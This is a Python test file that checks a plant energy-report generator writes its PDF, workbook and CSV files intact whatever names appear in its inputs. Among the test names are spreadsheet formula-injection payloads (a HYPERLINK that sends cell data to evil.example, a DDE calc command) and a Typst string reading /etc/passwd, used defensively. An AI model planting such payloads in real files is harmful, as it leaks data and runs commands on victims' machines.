"""A report never fails for a name: whatever stands in the log or the plant file, every file of it is whole."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from report_sample import NOON, NOW, PLANT, TARIFF, blocks_under, data_of, page_of, put, quarter, table_under, whole_month

from domain.anomalies import Anomaly
from domain.contracts import EXAMPLES
from domain.errors import InputFaults
from domain.facts import Fact
from domain.intervals import QUARTER
from domain.plant import load_plant
from domain.recommendations import Decision, DecisionKind, Places, Recommendation, RecommendationStatus
from domain.topics import ANOMALIES, DECISIONS, RECOMMENDATIONS
from lastgang.commands.report import command
from reporting.ledger import Ledger
from reporting.month import month_period
from reporting.report import ReportOrder, WrittenReport, write_report
from reporting.tables import german_excel, plain, text_cell
from reporting.typesetting import coded, fitted, missing_glyphs, one_line
from reporting.typesetting import plain as plain_only
from reporting.verifier import verify

Make = Callable[..., WrittenReport]
ADVICE: Recommendation = replace(
    EXAMPLES[RECOMMENDATIONS.name], site="werk-nord", issued_utc=NOON, at_utc=NOON, peak_start_utc=NOON + timedelta(hours=3)
)
FINDING: Anomaly = replace(EXAMPLES[ANOMALIES.name], site="werk-nord", since_utc=NOON, at_utc=NOON, until_utc=None)
NAMES = {
    "vertical tab": "M. Adler\x0bSchicht A", "nul": "Charge\x004711", "chinese": "李雷", "emoji": "Anna 👩‍🔧", "hebrew": "שלום",
    "override": "A\u202eB\u2066C", "private": "\ue000\uf8ff", "unassigned": "\u0378\uffff", "newlines": "A\nB\r\nC\u2028D\tE",
    "marks": "Z" + "\u0337\u0489" * 60, "mixed": "क\u0301ע\u0308李\u20dd", "long": "x" * 100_000, "long words": "Ä" * 190,
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")', "command": "=cmd|'/c calc'!A1", "full width": "＝1+1",
    "typst": '#panic() *x* $y$ @z <l> \\ `c` = h #read("/etc/passwd") \\u{41} [#(1+1)]', "quotes": '";\'"",', "xml": "<script>&amp;]]>",
    "format": "{count} %s {0}", "empty": "",
}  # fmt: skip


def log_of(ledger: Ledger, *names: str) -> None:
    """What an older program took into the log: every text of a finding, a recommendation and its decision is one of `names`."""
    for number, name in enumerate(names):
        finding = replace(FINDING, anomaly=f"a{number}", meter=name, facts=(Fact("silent.lasting", ids={"meter": (name,)}),))
        advice = replace(
            ADVICE,
            recommendation=f"r{number}",
            before=Places((replace(ADVICE.before.jobs[0], job=name, machine=name),)),
            after=Places((replace(ADVICE.after.jobs[0], job=name, machine=name),)),
            reason=(Fact("advice.move", ids={"job": (name,), "machine": (name,)}),),
        )
        at_utc = NOON + timedelta(minutes=5)
        decision = Decision("werk-nord", advice.recommendation, DecisionKind.ACCEPTED, name, at_utc, comment=name)
        entries = (ANOMALIES, finding), (RECOMMENDATIONS, advice), (DECISIONS, decision)
        ledger.append([(topic, 0, number, record) for topic, record in entries])


@pytest.mark.parametrize("first", [0, 10])
def test_a_month_with_any_name_in_its_log_is_reported_whole(first: int, ledger: Ledger, make: Make) -> None:
    put(ledger, *whole_month()[:400])
    names = list(NAMES.values())[first : first + 10]
    log_of(ledger, *names)
    made = make(language="en")
    assert verify(made.folder).holds
    assert (made.folder / "report.pdf").read_bytes().startswith(b"%PDF-1.7")
    findings: Any = load_workbook(made.folder / "report.xlsx")["Findings"]
    cells = [cell.value for row in findings.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    data = data_of(made)
    assert len(data["recommendations"]) == len(data["anomalies"]) == sum(name != "" for name in names)
    for file in made.folder.glob("*.csv"):
        lines = list(csv.reader(io.StringIO(file.read_text("utf-8-sig")), delimiter=";" if "excel" in file.name else ","))
        assert {len(line) for line in lines} == {len(lines[0])}, file.name


def test_names_that_the_fonts_lack_are_codes_in_the_pdf_and_themselves_elsewhere(ledger: Ledger, make: Make, folder: Path) -> None:
    put(ledger, *whole_month()[:400])
    log_of(ledger, "李雷")
    made = make()
    assert made.notes == (
        "Characters that the fonts of this PDF lack stand as codes in square brackets (U+674E, U+96F7); "
        "report.json and report.xlsx have the characters.",
    )
    assert data_of(made)["recommendations"][0]["decision"]["by"] == "李雷"
    findings: Any = load_workbook(made.folder / "report.xlsx")["Befunde"]
    assert any("李雷" in str(cell.value) for row in findings.iter_rows() for cell in row)
    assert make(as_of_utc=None).version == 2


def test_a_name_that_the_fonts_have_needs_no_note(ledger: Ledger, make: Make) -> None:
    put(ledger, *whole_month()[:400])
    log_of(ledger, "Ǆemal Şahin-Ørsted Жанна Ωμέγα")
    assert make().notes == ()


def test_what_is_missing_is_found_and_named() -> None:
    assert missing_glyphs("Größe – 李雷 Ж 👩") == {"李", "雷", "👩"}
    assert fitted({"a": ["李x", 3, None]}) == ({"a": ["[U+674E]x", 3, None]}, ["李"])
    assert coded("a👩", {"👩"}) == "a[U+1F469]"


def test_a_control_character_is_shown_as_one_that_cannot_be() -> None:
    assert one_line("M. Adler\x0bSchicht A\nB", 99) == "M. Adler\ufffdSchicht A B"
    assert text_cell("A\x00\ud800\u202eB") == "A\ufffd\ufffd\ufffdB"


def test_a_name_of_a_hundred_thousand_characters_is_cut_where_there_is_no_room() -> None:
    assert one_line("abc " * 40_000, 20) == "abc abc abc abc abc…"
    assert len(text_cell("x" * 100_000)) == 32_000
    assert one_line("x" * 60, 99).split("\u200b") == ["x" * 24, "x" * 24, "x" * 12]


@pytest.mark.parametrize("name", [NAMES["emoji"], NAMES["hebrew"], NAMES["formula"], NAMES["typst"], NAMES["long words"]])
def test_names_of_the_plant_file_and_of_the_tariff_do_no_harm(name: str, ledger: Ledger, folder: Path, make: Make) -> None:
    quoted = json.dumps(name, ensure_ascii=False)
    text = PLANT.replace('name = "Werk Nord"', f"name = {quoted}").replace('name = "Härteofen"', f"name = {quoted}")
    (folder / "plant" / "plant.toml").write_text(text)
    tariff = TARIFF.replace('id = "ms-2026"', f"id = {quoted}").replace('source = "price sheet"', f"source = {quoted}")
    (folder / "plant" / "tariff.toml").write_text(tariff.replace('id = "supply"', f"id = {quoted}"))
    put(ledger, *whole_month()[:400])
    made = make(author=name, approver=name)
    assert verify(made.folder).holds
    assert data_of(made)["organisation"] == name
    cover: Any = load_workbook(made.folder / "report.xlsx")["Deckblatt"]
    assert text_cell(name) in [cell.value for row in cover.iter_rows() for cell in row]


def test_a_tariff_with_a_control_character_in_a_name_is_refused(ledger: Ledger, folder: Path, make: Make) -> None:
    (folder / "plant" / "tariff.toml").write_text(TARIFF.replace('id = "supply"', 'id = "sup\\u000bply"'))
    put(ledger, *whole_month()[:400])
    with pytest.raises(InputFaults, match=r"printable characters, without U\+000B"):
        make()


def test_half_a_surrogate_pair_in_a_name_from_the_command_line_does_no_harm(ledger: Ledger, make: Make) -> None:
    put(ledger, *whole_month()[:400])
    made = make(author="A\udcffB\x0b")
    assert verify(made.folder).holds
    assert json.loads((made.folder / "manifest.json").read_text())["author"] == "A\ufffdB\ufffd"


@pytest.mark.parametrize(
    ("author", "text"), [("A\x0bB", r"U\+000B"), ("A\udcffB", r"U\+DCFF"), ("x" * 201, "201 characters; expected at most 200")]
)
def test_the_command_refuses_such_names_before_it_works(author: str, text: str, folder: Path) -> None:
    arguments = ["--plant", str(folder / "plant"), "--month", "2026-10", "--out", str(folder / "out"), "--author", author]
    result = CliRunner().invoke(command, arguments)
    assert result.exit_code == 2
    assert text.replace("\\", "") in result.output
    assert not (folder / "out").exists()


@settings(max_examples=40, deadline=None)
@given(text=st.text(max_size=40))
def test_any_text_can_be_set_by_the_pdfs_fonts(text: str) -> None:
    import typst

    source = b'#set document(title: "t", date: datetime(year: 2026, month: 1, day: 1))\n#set text(font: "Libertinus Serif")\n#json(bytes(sys.inputs.t))'

    def can_be_set(fit: str) -> bool:
        try:
            typst.compile(source, sys_inputs={"t": json.dumps(fit)}, pdf_standards=["a-3a"], ignore_system_fonts=True)
        except typst.TypstError:
            return False
        return True

    assert can_be_set(fitted(text)[0]) or can_be_set(plain_only(text)[0])
    assert can_be_set(plain_only(text)[0])


@settings(max_examples=60, deadline=None)
@given(text=st.text(max_size=60))
def test_any_text_comes_back_from_workbook_and_csv_as_one_cell(text: str) -> None:
    book, stored = Workbook(write_only=True), io.BytesIO()
    book.create_sheet("s").append([text_cell(text, "\n\t"), "end"])
    book.save(stored)
    sheet: Any = load_workbook(io.BytesIO(stored.getvalue())).active
    assert [cell.data_type for cell in sheet[1]][1] == "s"
    assert not any(cell.data_type == "f" for cell in sheet[1])
    for table, delimiter in ((german_excel(["a", "b"], [(text, "end")]), ";"), (plain(["a", "b"], [(text, "end")]), ",")):
        rows = list(csv.reader(io.StringIO(table.decode("utf-8-sig")), delimiter=delimiter))
        assert rows[1:] == [[text_cell(text), "end"]]


def test_amounts_at_the_ends_of_their_range_are_written(ledger: Ledger, make: Make) -> None:
    put(ledger, quarter(NOON, 9_000_000_000.0), quarter(NOON + QUARTER, -9_000_000_000.0), quarter(NOON + 2 * QUARTER, 0.0))
    ends = {"reduction_kw": 1e15, "saving_eur": -1e15, "peak_before_kw": -1e15}
    early = datetime(1000, 1, 1, tzinfo=UTC)
    ledger.append([
        (RECOMMENDATIONS, 0, 0, replace(ADVICE, **ends, issued_utc=early, peak_start_utc=datetime(8999, 12, 31, 23, 45, tzinfo=UTC))),
        (ANOMALIES, 0, 0, replace(FINDING, since_utc=early, until_utc=datetime(8999, 12, 31, tzinfo=UTC), excess_kwh=1e15, eur_per_day=-1e15)),
    ])  # fmt: skip
    made = make()
    assert verify(made.folder).holds
    assert data_of(made)["meters"][0]["peak"]["power_kw"] == 36e9


def test_a_month_of_an_idle_plant_is_reported(ledger: Ledger, folder: Path, make: Make) -> None:
    (folder / "plant" / "plant.toml").write_text(PLANT.replace("target_kw = 640.0\n", ""))
    put(ledger, *[quarter(NOON + n * QUARTER, 0.0) for n in range(96)])
    assert data_of(make())["meters"][0]["peak"]["power_kw"] == 0.0


def test_unknown_money_is_a_word_and_never_zero(ledger: Ledger, folder: Path, make: Make) -> None:
    money = dict.fromkeys(("bill_before_eur", "bill_after_eur", "saving_eur", "saving_demand_eur", "saving_energy_eur"))
    put(ledger, *whole_month()[:400])
    ledger.append([(RECOMMENDATIONS, 0, 0, replace(ADVICE, **money)), (ANOMALIES, 0, 0, replace(FINDING, eur_per_day=None))])
    made = make()
    data = data_of(made)
    assert (data["recommendations"][0]["expected_saving_eur"], data["anomalies"][0]["eur_per_day"]) == (None, None)
    findings: Any = load_workbook(made.folder / "report.xlsx")["Befunde"]
    assert [row[6].value for row in findings.iter_rows()] == ["EUR, erwartet", "unbekannt", "unbekannt"]
    page = page_of(ledger, folder)
    advice, anomalies = table_under(page, "Empfehlungen")["rows"], table_under(page, "Auffälligkeiten")["rows"]
    assert advice[0][3] == anomalies[0][4] == "unbekannt"


def test_what_was_expected_is_called_expected_and_carried_out_claims_no_effect(ledger: Ledger, folder: Path) -> None:
    put(ledger, *whole_month()[:400])
    ledger.append([(RECOMMENDATIONS, 0, 0, replace(ADVICE, status=RecommendationStatus.CARRIED_OUT))])
    pages = page_of(ledger, folder), page_of(ledger, folder, "en")
    german, english = table_under(pages[0], "Empfehlungen"), table_under(pages[1], "Recommendations")
    assert german["header"][2:4] == ["erwartete Senkung\n[kW]", "erwartete Ersparnis\n[EUR]"]
    assert english["header"][2:4] == ["Expected reduction\n[kW]", "Expected saving\n[EUR]"]
    assert (german["rows"][0][1], english["rows"][0][1]) == ("durchgeführt", "carried out")
    assert "not what that was worth" in blocks_under(pages[1], "Recommendations")[0]["text"]


def test_a_yearly_fee_stands_in_the_report_as_on_the_price_sheet(ledger: Ledger, folder: Path, make: Make) -> None:
    (folder / "plant" / "tariff.toml").write_text(TARIFF + '[[fixed]]\nid = "meter"\nprice = "480.00 EUR/year"\n')
    put(ledger, *whole_month())
    [line] = [row for row in table_under(page_of(ledger, folder), "Rechnung des Monats")["rows"] if row[0] == "meter"]
    assert line == ["meter", "Grundpreis", "1/12 Jahr", "480,0000", "40,00", ""]
    costs: Any = load_workbook(make().folder / "report.xlsx")["Kosten"]
    [cells] = [row for row in costs.iter_rows() if row[0].value == "meter"]
    assert (cells[2].value, cells[2].number_format, cells[3].value, cells[4].value, cells[5].value) == (
        pytest.approx(1 / 12), "# ??/??", "Jahr", 480, 40,
    )  # fmt: skip


def test_a_report_is_made_for_a_plant_where_nothing_is_printable(ledger: Ledger, folder: Path) -> None:
    """A plant that was loaded by an older program: names are not checked again."""
    put(ledger, *whole_month()[:400])
    loaded = load_plant(folder / "plant" / "plant.toml")
    site = loaded.site.model_copy(update={"name": "A\x0b\ud800\n李"})
    meters = tuple(meter.model_copy(update={"name": "\x07\ufffe"}) for meter in loaded.meters)
    plant = loaded.model_copy(update={"site": site, "meters": meters})
    made = write_report(ledger, plant, month_period("2026-10", "Europe/Berlin"), ReportOrder(folder / "plant", folder / "out"), NOW)
    assert verify(made.folder).holds
    assert json.loads((made.folder / "report.json").read_text())["organisation"] == "A\x0b\ud800\n李"
